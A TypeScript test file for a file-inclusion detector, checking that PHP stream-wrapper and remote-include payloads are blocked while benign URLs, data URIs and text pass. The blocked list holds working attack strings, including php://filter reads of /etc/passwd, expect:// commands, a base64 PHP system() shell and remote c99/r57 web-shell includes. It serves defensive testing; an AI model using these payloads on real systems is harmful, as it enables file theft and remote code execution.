import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { fileInclusion } from '../../src/detectors/file-inclusion.ts';
import { recognise } from '../support/field.ts';

const query = (name: string): Partial<Field> => ({ location: 'query', name, pointer: `/${name}` });

const LOUD: readonly (readonly [string, string])[] = [
  ['page', 'php://filter/convert.base64-encode/resource=index.php'],
  ['page', 'pHp://FilTer/convert.base64-encode/resource=index.php'],
  ['page', 'php://filter/read=string.rot13/resource=../config.php'],
  ['page', 'php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd'],
  ['page', 'php:filter/resource=/etc/passwd'],
  ['x', 'php://input'],
  ['x', 'php://input&cmd=ls'],
  ['x', 'expect://id'],
  ['x', 'expect://ls -la'],
  ['x', 'zip://uploads/a.jpg%23shell.php'],
  ['x', 'phar://uploads/a.jpg/x.php'],
  ['x', 'compress.zlib:///etc/passwd'],
  ['x', 'glob:///var/www/*'],
  ['x', 'ssh2.exec://ann@example.com/id'],
  ['x', 'jar:http://a.example/x.jar!/y'],
  ['x', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+'],
  ['x', 'data://text/plain,<?php'],
  ['page', 'data:text/plain,<?php'],
  ['page', 'data:;base64,PD9waHAgcGhwaW5mbygpOw=='],
  ['file', 'http://a.example/shell.txt?'],
  ['file', 'https://a.example/x.php'],
  ['page', 'http://a.example/c99.txt?'],
  ['include', 'http://a.example/x.inc'],
  ['template', 'ftp://a.example/x.php'],
  ['mosConfig_absolute_path', 'http://a.example/r57.txt??'],
  ['path', 'http://a.example/x.jsp'],
];
const QUIET: readonly (readonly [string, string])[] = [
  ['page', 'pricing'],
  ['page', '2'],
  ['file', 'report.pdf'],
  ['file', 'https://cdn.example.com/files/report.pdf'],
  ['path', '/home/ann/report.txt'],
  ['template', 'invoice.html'],
  ['lang', 'en-GB'],
  ['url', 'https://example.com/index.php?id=7'],
  ['website', 'https://example.com/about.aspx'],
  ['page', 'https://shop.example.com/index.php?id=7'],
  ['source', 'https://blog.example.com/post.php'],
  ['avatar', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'],
  ['icon', 'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='],
  ['text', 'PHP streams such as php://output and php://memory are explained in the manual'],
  ['text', 'see zip: files and rar: files'],
  ['text', 'I expect: nothing'],
  ['text', 'data: 17, more data: 18'],
  ['code', "file_put_contents('a.txt', $x); // see the manual"],
  ['style', 'color:red;background:url(https://cdn.example.com/a.png)'],
  ['file', 'https://cdn.example.com/a/b.jpg'],
  ['image', 'http://cdn.example.com/a.gif'],
  ['note', 'classpath is set in the shell'],
  ['ratio', '16:9'],
  ['time', '10:30:00'],
  ['urn', 'urn:isbn:9780131103627'],
  ['s3', 's3://bucket/key.zip'],
  ['git', 'git+ssh://git@example.com/a/b.git'],
  ['content', '안녕하세요: 파일/폴더'],
];

describe('file-inclusion', () => {
  it.each(LOUD)('blocks %s=%s', (name, text) => {
    expect(recognise(fileInclusion, text, query(name))?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('is quiet about %s=%s', (name, text) => {
    expect(recognise(fileInclusion, text, query(name))).toBeUndefined();
    expect(recognise(fileInclusion, text, { name })).toBeUndefined();
  });
  it('tables ran', () => expect([LOUD.length >= 20, QUIET.length >= 25]).toEqual([true, true]));

  it('stays linear', () => {
    for (const unit of ['php://x ', 'data:/', 'http://a.', 'zip:/', '=(', 'jar:']) {
      const time = (length: number): number => {
        const text = unit.repeat(length / unit.length);
        let best = Number.POSITIVE_INFINITY;
        for (let i = 0; i < 5; i++) {
          const start = process.hrtime.bigint();
          recognise(fileInclusion, text, query('file'));
          best = Math.min(best, Number(process.hrtime.bigint() - start));
        }
        return best;
      };
      expect(time(65_536), unit).toBeLessThan(20 * time(8_192) + 2_000_000);
    }
  });
});
